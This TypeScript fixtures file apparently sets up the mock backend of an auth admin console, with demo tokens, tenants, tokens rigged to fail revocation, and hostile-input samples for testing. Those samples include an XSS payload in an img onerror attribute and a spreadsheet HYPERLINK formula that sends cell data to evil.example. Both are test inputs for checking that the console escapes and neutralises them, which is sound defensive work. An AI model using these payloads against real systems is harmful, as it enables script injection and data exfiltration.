/**
 * The fixed identities and rigged ids of the mock backend: what demo sign-in, unit tests and e2e tests refer to.
 * Everything else in the dataset is generated from a seeded PRNG (see ./db).
 */

/** Bearer token of the demo tenant's administrator. */
export const DEMO_ADMIN_TOKEN = 'demo-admin-token';
/** Bearer token of a valid user of the demo tenant who is not an administrator: every admin route answers 403. */
export const DEMO_VIEWER_TOKEN = 'demo-viewer-token';

export const DEMO_TENANT_ID = 'tenant_demo';
export const DEMO_TENANT_NAME = 'Acme Demo';
/** A second tenant: its clients, tokens and device sessions are invisible (404 / filtered out) to the demo admin. */
export const OTHER_TENANT_ID = 'tenant_other';
export const OTHER_TENANT_NAME = 'Globex Corporation';

/** The user who owns the rigged tokens below (one of the ~40 demo users). */
export const FAILING_TOKEN_USER_ID = 'usr_k2p7dxq4ma3v';
/**
 * Active tokens of FAILING_TOKEN_USER_ID whose single revoke (`DELETE {session}/admin/tokens/{id}`) always answers
 * 500 Problem with a request_id: a rehearsal of a server failure. They sit off the first page (positions 22, 27 and
 * 30 of the default newest-first list: rows 2, 7 and 10 of page 2), so a new visitor's first revokes succeed, and
 * their user agent says they fail on purpose.
 */
export const FAILING_TOKEN_IDS = ['tok_r7kq2mxw4fzd', 'tok_h3nv5tqa7bpe', 'tok_w2cy6lqj4nso'] as const;
/** 1-based positions of FAILING_TOKEN_IDS in the default list (no filters, newest first). */
export const FAILING_TOKEN_POSITIONS = [22, 27, 30] as const;
/**
 * The user agent of the rigged tokens: the mark that they fail on purpose, visible in the tokens list (which shows a
 * user agent that is not a browser's by its first product token: `revoke-fails-on-purpose/1.0`).
 */
export const FAILING_TOKEN_USER_AGENT = 'revoke-fails-on-purpose/1.0 (authms demo: a rehearsal of a server failure)';
/** What the tokens list shows of FAILING_TOKEN_USER_AGENT. */
export const FAILING_TOKEN_MARK = 'revoke-fails-on-purpose';

/** The token whose user_agent is `<img src=x onerror=alert(1)>` (position 4 of the default list). */
export const HOSTILE_USER_AGENT_TOKEN_ID = 'tok_x5sb3jv7gq2k';
export const HOSTILE_USER_AGENT = '<img src=x onerror=alert(1)>';

/**
 * The token whose user_agent is a spreadsheet formula with Chinese text in it (an active refresh token near the top of
 * the default list): an export must neutralise the formula and keep the Chinese intact.
 */
export const FORMULA_USER_AGENT_TOKEN_ID = 'tok_f6rmulacqzuh';
export const FORMULA_USER_AGENT = '=HYPERLINK("https://evil.example/?q="&A1,"点击查看详情")';

/** The session whose user agent and location are hostile (markup, RTL override, very long text). */
export const HOSTILE_SESSION_ID = 'ses_hostilesample1';
/** The hostile session's IP address (TEST-NET-3): `?ip=` finds it, and only it, on the sessions page. */
export const HOSTILE_SESSION_IP = '203.0.113.66';

/** client_id of the demo client whose strings are hostile (markup, javascript: URLs, RTL override, long text). */
export const HOSTILE_CLIENT_ID = 'hostile-input-sample';
/** client_ids of the other tenant: the demo admin gets 404 for each. */
export const OTHER_TENANT_CLIENT_IDS = ['globex-portal', 'globex-mobile', 'globex-kiosk'] as const;

/**
 * client_id of the console's own OAuth client ("Sign in with authms"): the mock's authorization server knows only
 * this public client, and the console's runtime config defaults to it (`oauthClientId`).
 */
export const CONSOLE_CLIENT_ID = 'authms-console';
